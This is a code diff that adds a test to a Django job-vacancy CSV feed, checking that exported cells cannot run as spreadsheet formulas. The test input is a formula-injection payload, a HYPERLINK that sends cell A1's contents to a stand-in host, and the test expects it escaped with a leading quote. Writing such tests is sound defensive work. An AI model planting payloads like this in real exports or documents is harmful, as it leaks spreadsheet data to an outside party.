@@ -155,6 +155,16 @@ def test_the_csv_feed_has_a_header_and_one_row_per_published_vacancy(client):
     assert row["title"] == "Vânzător, tura 1" and row["languages"] == "en:A2"
 
 
+def test_no_csv_cell_is_run_as_a_formula(client):
+    vacancy = publish(title='=HYPERLINK("http://rau.example/?"&A1,"click")')
+
+    response = client.get(reverse("employers:job_feed_csv"))
+
+    row = next(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert row["id"] == str(vacancy.pk)
+    assert row["title"] == "'" + vacancy.title
+
+
 def test_feed_queries_do_not_grow_with_rows(client, django_assert_max_num_queries):
     for _ in range(10):
         vacancy = publish()
